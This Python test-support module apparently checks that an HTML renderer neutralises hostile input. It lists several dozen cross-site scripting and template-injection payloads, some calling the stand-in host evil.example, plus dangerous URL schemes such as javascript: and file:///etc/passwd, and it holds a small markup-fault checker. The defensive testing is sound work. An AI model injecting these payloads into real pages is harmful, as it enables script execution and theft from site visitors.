"""Words that would run, load or disfigure something where they were taken for markup.

Each sets `window.pwned`, asks a host of its own, opens a dialog, or breaks out of where it stands.
"""

import html
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

HOST = "evil.example"

PAYLOADS: tuple[str, ...] = (
    "<script>window.pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "</script><script>window.pwned=1</script>",
    "<script\x0ctype=text/javascript>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror="alert(1)">',
    "<img src=https://evil.example/pixel.gif>",
    "<img/src='x'/onerror=window.pwned=1//",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus onfocus=alert(1)>go</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=window.pwned=1>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<div style='background:url(https://evil.example/bg)'>x</div>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}<%= 7*7 %>{% 7*7 %}",
    "';window.pwned=1;//",
    '";window.pwned=1;//',
    "`-alert(1)-`",
    "</title><script>alert(1)</script>",
    "</textarea><script>window.pwned=1</script>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "\u202e>tpircs/<1=denwp.wodniw>tpircs<",
    "<img src=x onerror\u200b=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>window.pwned=1</script></template>",
    "<x onclick=alert(1) tabindex=0 autofocus>x",
    "__proto__",
    "<b class='chip' data-tone='done'>Happened</b>",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
)
"""What an article may give as its url, and no reader may follow."""

_TAGS = frozenset({"a", "blockquote", "body", "br", "h1", "h2", "html", "li", "p", "strong", "ul"})
_SPACE = re.compile(r"\s+")


class _Markup(HTMLParser):
    """Notes what a browser would make of a piece of markup."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            scheme = urlsplit(value or "").scheme
            if name != "href" or scheme not in {"http", "https"}:
                self.wrong.append(f"{tag} {name}={value}")
        if tag not in _TAGS:
            self.wrong.append(tag)


def markup_faults(markup: str) -> Iterator[str]:
    """Yield what stands in markup of ours that only words of others can have brought there."""
    parser = _Markup()
    parser.feed(markup)
    parser.close()
    yield from parser.wrong


def words_of(markup: str) -> str:
    """Return what a reader of markup sees, in one line."""
    return one_line(html.unescape(re.sub(r"</?[a-z][^<>]*>", " ", markup)))


def one_line(text: str) -> str:
    """Return a text with single spaces."""
    return _SPACE.sub(" ", text).strip()
